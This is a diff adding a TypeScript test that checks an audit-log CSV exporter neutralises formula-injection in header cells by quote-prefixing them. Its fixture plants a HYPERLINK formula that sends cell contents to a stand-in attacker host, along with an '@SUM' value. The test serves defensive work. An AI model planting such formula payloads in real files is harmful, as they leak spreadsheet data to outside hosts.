@@ -93,6 +93,28 @@ describe("CSV export", () => {
     expect((parse(fs.readFileSync(mfile, "utf8"), { columns: true }) as Array<Record<string, string>>)[0]!.value).toBe("-5");
   });
 
+  it("neutralises a header cell too: a member a tampered line adds becomes a column named by it (its name ran as a formula: review 2026-12-05)", async () => {
+    const projectPath = tmpProject();
+    const logger = new AuditLogger({ sessionId: "hdr", projectPath });
+    logger.logError({ errorType: "T", message: "m" });
+    await logger.finalizeSession();
+    const auditPath = path.join(projectPath, "audit_logs");
+    const file = path.join(auditPath, "errors_hdr.jsonl");
+    const rec = JSON.parse(fs.readFileSync(file, "utf8").trim()) as Record<string, unknown>;
+    const formula = '=HYPERLINK("http://evil.example/?"&A2,"open")';
+    const { hash, ...rest } = rec;
+    fs.writeFileSync(file, JSON.stringify({ ...rest, [formula]: "x", "@SUM(1)": "y", hash }) + "\n");
+    const out = path.join(projectPath, "errors.csv");
+    await new AuditExporter({ auditPath }).exportErrorsToCsv(out);
+    const [header, row] = parse(fs.readFileSync(out, "utf8")) as string[][];
+    for (const cell of header!) expect(/^[=+\-@\t\r]/.test(cell), cell).toBe(false);
+    expect(header).toContain(`'${formula}`);
+    expect(header).toContain("'@SUM(1)");
+    expect(header!.map(restoreCsvText)).toContain(formula);
+    expect(row![header!.indexOf(`'${formula}`)]).toBe("x");
+    expect(header!.slice(0, CSV_COLUMNS.error.length - 6)).toEqual(CSV_COLUMNS.error.slice(0, -6));
+  });
+
   it("rejects unknown options", async () => {
     const exporter = new AuditExporter({ auditPath: fx.auditPath });
     await expect(exporter.exportErrorsToCsv(path.join(fx.projectPath, "x.csv"), { includeContent: true } as never)).rejects.toBeInstanceOf(AuditConfigError);
